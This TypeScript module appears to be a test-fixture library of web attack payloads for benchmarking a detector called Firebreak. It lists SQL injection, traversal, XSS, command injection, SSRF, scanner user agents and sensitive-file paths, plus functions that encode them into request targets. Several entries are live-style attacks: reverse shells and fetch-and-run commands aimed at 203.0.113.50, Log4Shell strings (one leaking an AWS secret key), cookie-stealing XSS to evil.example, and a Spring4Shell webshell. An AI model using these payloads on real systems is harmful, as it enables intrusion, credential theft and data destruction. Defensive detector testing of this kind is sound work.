/**
 * Attack payloads as they reach web servers, by category, each with where it travels and the public
 * reference it was taken from (test/fixtures/logs/labelled/README.md lists them). Written from those
 * references, not from Firebreak's rules: the labelled samples and the log benchmark judge the detector.
 */
export const attackCategories = ['sqli', 'path-traversal', 'xss', 'command-injection', 'ssrf', 'scanner', 'sensitive-file'] as const;
export type AttackCategory = (typeof attackCategories)[number];

/** How a payload is written on the wire. `plain` is what curl sends (spaces as %20, the rest raw). */
export const encodings = ['plain', 'plus', 'url', 'double', 'mixed', 'comment', 'html'] as const;
export type Encoding = (typeof encodings)[number];

export interface Attack {
  category: AttackCategory;
  /** The reference the payload comes from (a key of `sources`). */
  source: keyof typeof sources;
  /** `query`: the value of `param` on `path`; `path`: the request path itself; `userAgent`: the agent, the request is `path`. */
  where: 'query' | 'path' | 'userAgent';
  path: string;
  param?: string;
  payload: string;
  /** The encodings that make sense for this payload (a path cannot carry `+` as a space, an agent is not URL-encoded). */
  encodings: readonly Encoding[];
}

export const sources = {
  sqlmap: 'sqlmap payloads (data/xml/payloads/*.xml: boolean, error, time-based, UNION)',
  patt: 'PayloadsAllTheThings (SQL Injection, Directory Traversal, XSS Injection, Command Injection, SSRF lists)',
  wstg: 'OWASP Web Security Testing Guide (WSTG-INPV-05 SQLi, WSTG-ATHZ-01 traversal, WSTG-INPV-01 XSS, WSTG-INPV-12 command injection, WSTG-INPV-19 SSRF, WSTG-CONF-04 backup files)',
  owaspXss: 'OWASP XSS Filter Evasion Cheat Sheet',
  cve: 'CVE write-ups: Log4Shell CVE-2021-44228, Spring4Shell CVE-2022-22965, Shellshock CVE-2014-6271, Apache CVE-2021-41773/42013, ThinkPHP 5 RCE',
  agents: 'user agents the tools send by default (sqlmap, Nikto, Nuclei, Nmap NSE, masscan, zgrab, WPScan, gobuster, ffuf, DirBuster, wfuzz, commix, Arachni, skipfish, OpenVAS, Hydra, ZmEu, Jorgee)',
  nuclei: 'nuclei-templates exposures (files, configs, backups) and Nikto probe paths',
} as const;

const all: readonly Encoding[] = ['plain', 'plus', 'url', 'double', 'mixed'];
const sql: readonly Encoding[] = [...all, 'comment'];
const markup: readonly Encoding[] = [...all, 'html'];
const wire: readonly Encoding[] = ['plain', 'url', 'double'];
const asIs: readonly Encoding[] = ['plain'];
const pathish: readonly Encoding[] = ['plain', 'url', 'double', 'mixed'];

const q = (category: AttackCategory, source: Attack['source'], path: string, param: string, payload: string, encodings: readonly Encoding[]): Attack => ({ category, source, where: 'query', path, param, payload, encodings });
const p = (category: AttackCategory, source: Attack['source'], path: string, encodings: readonly Encoding[]): Attack => ({ category, source, where: 'path', path, payload: path, encodings });
const ua = (category: AttackCategory, source: Attack['source'], path: string, agent: string): Attack => ({ category, source, where: 'userAgent', path, payload: agent, encodings: asIs });

export const attacks: readonly Attack[] = [
  // SQL injection
  q('sqli', 'wstg', '/products', 'id', "1' OR '1'='1", sql),
  q('sqli', 'patt', '/products', 'id', "1' OR 1=1-- -", sql),
  q('sqli', 'patt', '/item', 'id', "' UNION SELECT NULL,NULL,NULL-- -", sql),
  q('sqli', 'wstg', '/news', 'id', '1 UNION ALL SELECT username,password FROM users--', sql),
  q('sqli', 'sqlmap', '/catalog', 'cat', "1' AND SLEEP(5)-- -", sql),
  q('sqli', 'sqlmap', '/catalog', 'cat', "1'; WAITFOR DELAY '0:0:5'--", sql),
  q('sqli', 'sqlmap', '/article', 'id', "1' AND (SELECT 4564 FROM (SELECT(SLEEP(5)))xYzA)-- -", sql),
  q('sqli', 'patt', '/login', 'user', "admin'--", wire),
  q('sqli', 'sqlmap', '/article', 'id', "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -", sql),
  q('sqli', 'sqlmap', '/article', 'id', '1 AND 1=CONVERT(INT,(SELECT @@version))', sql),
  q('sqli', 'wstg', '/profile', 'name', "'; DROP TABLE users; --", sql),
  q('sqli', 'sqlmap', '/products', 'id', "1' ORDER BY 10-- -", sql),
  q('sqli', 'patt', '/news', 'id', '-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()', sql),
  q('sqli', 'sqlmap', '/search', 'q', "x' AND 1=(SELECT 1 FROM pg_sleep(5))--", sql),
  q('sqli', 'patt', '/search', 'q', "1 OR BENCHMARK(10000000,MD5(1))#", sql),
  q('sqli', 'patt', '/login', 'password', "' or ''='", wire),
  q('sqli', 'sqlmap', '/products', 'id', '1 AND 8912=8912', sql),
  q('sqli', 'sqlmap', '/products', 'id', '1) AND 5593=5593 AND (3767=3767', sql),
  q('sqli', 'sqlmap', '/products', 'id', "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71787a7171,(SELECT (ELT(1=1,1))),0x716b6a7a71,0x78))s), 8446744073709551610, 8446744073709551610)))", sql),
  q('sqli', 'patt', '/api/orders', 'sort', '(CASE WHEN (1=1) THEN id ELSE price END)', sql),
  q('sqli', 'patt', '/item', 'id', '1/*!50000UNION*//*!50000SELECT*/1,2,3--', wire),
  q('sqli', 'patt', '/item', 'id', "1' UNION SELECT load_file('/etc/passwd'),2-- -", sql),
  q('sqli', 'patt', '/user', 'id', "1; EXEC xp_cmdshell('dir')--", sql),
  // Path traversal and local file inclusion
  q('path-traversal', 'wstg', '/download', 'file', '../../../../etc/passwd', pathish),
  q('path-traversal', 'patt', '/download', 'file', '..\\..\\..\\windows\\win.ini', pathish),
  q('path-traversal', 'patt', '/image', 'src', '....//....//....//etc/passwd', pathish),
  q('path-traversal', 'patt', '/view', 'page', '../../../../../proc/self/environ', pathish),
  q('path-traversal', 'patt', '/include', 'page', '../../../etc/shadow%00.jpg', wire),
  q('path-traversal', 'patt', '/index.php', 'page', 'php://filter/convert.base64-encode/resource=../config.php', wire),
  q('path-traversal', 'wstg', '/static', 'f', '/etc/passwd', wire),
  q('path-traversal', 'patt', '/download', 'file', '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', asIs),
  q('path-traversal', 'patt', '/report', 'template', '../../../../../../var/log/nginx/access.log', pathish),
  p('path-traversal', 'cve', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', asIs),
  p('path-traversal', 'cve', '/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd', asIs),
  p('path-traversal', 'patt', '/static/../../../../etc/passwd', pathish),
  p('path-traversal', 'patt', '/assets/..%2f..%2f..%2f..%2fetc%2fhosts', asIs),
  p('path-traversal', 'patt', '/app/..;/..;/manager/html', asIs),
  p('path-traversal', 'patt', '/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd', asIs),
  // Cross-site scripting
  q('xss', 'owaspXss', '/search', 'q', '<script>alert(1)</script>', markup),
  q('xss', 'patt', '/search', 'q', '"><script>alert(document.cookie)</script>', markup),
  q('xss', 'owaspXss', '/comment', 'text', '<img src=x onerror=alert(1)>', markup),
  q('xss', 'patt', '/profile', 'bio', '<svg/onload=alert(1)>', markup),
  q('xss', 'owaspXss', '/redirect', 'to', 'javascript:alert(1)', markup),
  q('xss', 'owaspXss', '/page', 'title', "<body onload=alert('XSS')>", markup),
  q('xss', 'patt', '/embed', 'src', '<iframe src="javascript:alert(1)"></iframe>', markup),
  q('xss', 'patt', '/search', 'q', '<details open ontoggle=alert(1)>', markup),
  q('xss', 'patt', '/comment', 'text', "<img src=x onerror=\"fetch('https://evil.example/c?'+document.cookie)\">", markup),
  q('xss', 'owaspXss', '/search', 'q', "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>", wire),
  q('xss', 'owaspXss', '/search', 'q', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>', markup),
  q('xss', 'patt', '/search', 'lang', "en';alert(1)//", wire),
  q('xss', 'patt', '/profile', 'name', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', markup),
  q('xss', 'owaspXss', '/page', 'ref', '<script src=https://evil.example/x.js></script>', markup),
  // Command injection and remote code execution
  q('command-injection', 'patt', '/ping', 'host', '127.0.0.1;id', wire),
  q('command-injection', 'patt', '/ping', 'host', '127.0.0.1 | id', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/ping', 'host', '127.0.0.1 && whoami', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/lookup', 'domain', 'example.com$(id)', wire),
  q('command-injection', 'patt', '/lookup', 'domain', 'example.com`uname -a`', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'wstg', '/convert', 'file', 'doc.pdf;cat /etc/passwd', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/ping', 'host', '1.1.1.1;wget http://203.0.113.50/x.sh -O /tmp/x.sh;sh /tmp/x.sh', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/api/exec', 'cmd', 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/ping', 'host', '127.0.0.1;nc -e /bin/sh 203.0.113.50 4444', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/ping', 'host', '127.0.0.1;cat${IFS}/etc/passwd', wire),
  q('command-injection', 'patt', '/ping', 'host', '127.0.0.1%0Aid', asIs),
  q('command-injection', 'patt', '/debug', 'host', '|| ping -c 10 127.0.0.1 ||', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'patt', '/api/run', 'target', '$(curl -s http://203.0.113.50/s|sh)', ['plain', 'plus', 'url', 'double']),
  q('command-injection', 'cve', '/index.php', 's', '/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', asIs),
  q('command-injection', 'cve', '/', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern', '%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("cmd")).getInputStream(); }', ['url']),
  ua('command-injection', 'cve', '/cgi-bin/status', '() { :; }; /bin/bash -c "cat /etc/passwd"'),
  ua('command-injection', 'cve', '/cgi-bin/test.cgi', '() { :;}; echo; /bin/bash -c "wget http://203.0.113.50/bot -O /tmp/bot"'),
  ua('command-injection', 'cve', '/', '${jndi:ldap://203.0.113.50:1389/Exploit}'),
  ua('command-injection', 'cve', '/login', '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.50/a}'),
  ua('command-injection', 'cve', '/', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.50/x}'),
  q('command-injection', 'cve', '/api/search', 'q', '${jndi:ldap://203.0.113.50/a}', wire),
  q('command-injection', 'cve', '/help', 'topic', '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.203.0.113.50.example/a}', wire),
  // Server-side request forgery
  q('ssrf', 'patt', '/fetch', 'url', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', all),
  q('ssrf', 'patt', '/proxy', 'url', 'http://127.0.0.1:22/', all),
  q('ssrf', 'wstg', '/preview', 'url', 'http://localhost/admin', all),
  q('ssrf', 'patt', '/fetch', 'url', 'file:///etc/passwd', all),
  q('ssrf', 'patt', '/webhook', 'target', 'gopher://127.0.0.1:6379/_FLUSHALL', all),
  q('ssrf', 'patt', '/avatar', 'image_url', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', all),
  q('ssrf', 'patt', '/proxy', 'url', 'http://[::1]:8080/', all),
  q('ssrf', 'patt', '/proxy', 'url', 'http://2130706433/', all),
  q('ssrf', 'patt', '/proxy', 'url', 'http://0x7f000001/server-status', all),
  q('ssrf', 'patt', '/fetch', 'url', 'dict://127.0.0.1:11211/stat', all),
  q('ssrf', 'patt', '/fetch', 'url', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01', all),
  q('ssrf', 'patt', '/import', 'feed', 'http://100.100.100.200/latest/meta-data/', all),
  q('ssrf', 'patt', '/pdf', 'source', 'http://0177.0.0.1/admin', all),
  q('ssrf', 'wstg', '/webhook', 'callback', 'http://10.0.0.5:8500/v1/agent/self', all),
  // Scanners by their default agent (on the paths they open with)
  ua('scanner', 'agents', '/index.php', 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
  ua('scanner', 'agents', '/', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'),
  ua('scanner', 'agents', '/', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)'),
  ua('scanner', 'agents', '/', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'),
  ua('scanner', 'agents', '/', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
  ua('scanner', 'agents', '/', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'),
  ua('scanner', 'agents', '/', 'Mozilla/5.0 zgrab/0.x'),
  ua('scanner', 'agents', '/blog/', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)'),
  ua('scanner', 'agents', '/images/', 'gobuster/3.6'),
  ua('scanner', 'agents', '/FUZZ', 'Fuzz Faster U Fool v2.1.0-dev'),
  ua('scanner', 'agents', '/admin/', 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)'),
  ua('scanner', 'agents', '/', 'Wfuzz/3.1.0'),
  ua('scanner', 'agents', '/ping', 'commix/v3.9 (https://commixproject.com)'),
  ua('scanner', 'agents', '/', 'Arachni/v1.5.1'),
  ua('scanner', 'agents', '/', 'Mozilla/5.0 SF/2.10b'),
  ua('scanner', 'agents', '/', 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)'),
  ua('scanner', 'agents', '/login', 'Mozilla/4.0 (Hydra)'),
  ua('scanner', 'agents', '/phpmyadmin/', 'ZmEu'),
  ua('scanner', 'agents', '/', 'Mozilla/5.0 Jorgee'),
  // Sensitive files
  p('sensitive-file', 'nuclei', '/.env', pathish),
  p('sensitive-file', 'nuclei', '/.git/config', pathish),
  p('sensitive-file', 'nuclei', '/.git/HEAD', asIs),
  p('sensitive-file', 'nuclei', '/wp-config.php.bak', pathish),
  p('sensitive-file', 'nuclei', '/wp-config.php~', asIs),
  p('sensitive-file', 'nuclei', '/.aws/credentials', pathish),
  p('sensitive-file', 'nuclei', '/.htpasswd', pathish),
  p('sensitive-file', 'wstg', '/backup.sql', asIs),
  p('sensitive-file', 'wstg', '/db/dump.sql.gz', asIs),
  p('sensitive-file', 'nuclei', '/.svn/entries', asIs),
  p('sensitive-file', 'nuclei', '/.ssh/id_rsa', pathish),
  p('sensitive-file', 'nuclei', '/.bash_history', asIs),
  p('sensitive-file', 'nuclei', '/actuator/env', asIs),
  p('sensitive-file', 'nuclei', '/actuator/heapdump', asIs),
  p('sensitive-file', 'nuclei', '/WEB-INF/web.xml', pathish),
  p('sensitive-file', 'nuclei', '/config/database.yml', asIs),
  p('sensitive-file', 'nuclei', '/.DS_Store', asIs),
  p('sensitive-file', 'nuclei', '/api/.env', pathish),
  p('sensitive-file', 'nuclei', '/.npmrc', asIs),
  p('sensitive-file', 'nuclei', '/docker-compose.yml', asIs),
  p('sensitive-file', 'wstg', '/site-backup.tar.gz', asIs),
  p('sensitive-file', 'nuclei', '/.vscode/sftp.json', asIs),
];

function randomCase(text: string, random: () => number): string {
  // Alternate so the result is always mixed, with a random start.
  let upper = random() < 0.5;
  return text.replace(/[a-z]/gi, (c) => {
    upper = !upper;
    return upper ? c.toUpperCase() : c.toLowerCase();
  });
}

/** What a client puts on the wire so the request line stays one token: the least a sender must encode. */
function minimal(text: string, space: string): string {
  return text.replace(/[ "#&\t\n]/g, (c) => (c === ' ' ? space : c === '&' ? '%26' : `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`));
}

/** Entities a browser would decode: `<` as `&lt;`, quotes and letters of keywords as numeric references. */
function entities(text: string): string {
  return text.replace(/[<>"'(]/g, (c) => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;', '(': '&#40;' })[c]!);
}

/** Writes a payload as the encoding says; the result goes into a URL (query value or path). */
export function encodePayload(attack: Attack, encoding: Encoding, random: () => number): string {
  const { payload, where } = attack;
  if (where === 'userAgent') return payload;
  if (where === 'path') {
    switch (encoding) {
      case 'url':
        return payload.replace(/\./g, '%2e').replace(/\/(?!$)/g, (s, at: number) => (at === 0 ? s : '%2f'));
      case 'double':
        return payload.replace(/\./g, '%252e');
      case 'mixed':
        return randomCase(payload, random);
      default:
        return payload;
    }
  }
  // Payloads written already encoded (%00, %0A, overlong UTF-8) keep their % as written.
  const raw = attack.encodings.length === 1 && attack.encodings[0] === 'plain';
  switch (encoding) {
    case 'plain':
      return raw ? payload : minimal(payload, '%20');
    case 'plus':
      return minimal(payload, '+');
    case 'url':
      return encodeURIComponent(payload).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
    case 'double':
      return encodeURIComponent(encodeURIComponent(payload));
    case 'mixed':
      return minimal(randomCase(payload, random), '%20');
    case 'comment':
      return minimal(payload.replace(/ /g, '/**/'), '%20');
    case 'html':
      return encodeURIComponent(entities(payload));
  }
}

/** The request target for an attack in an encoding. */
export function attackTarget(attack: Attack, encoding: Encoding, random: () => number): string {
  if (attack.where === 'query') {
    const value = encodePayload(attack, encoding, random);
    // The ThinkPHP probe carries its own extra parameters.
    return `${attack.path}?${attack.param}=${value}`;
  }
  if (attack.where === 'path') return encodePayload(attack, encoding, random);
  return attack.path;
}
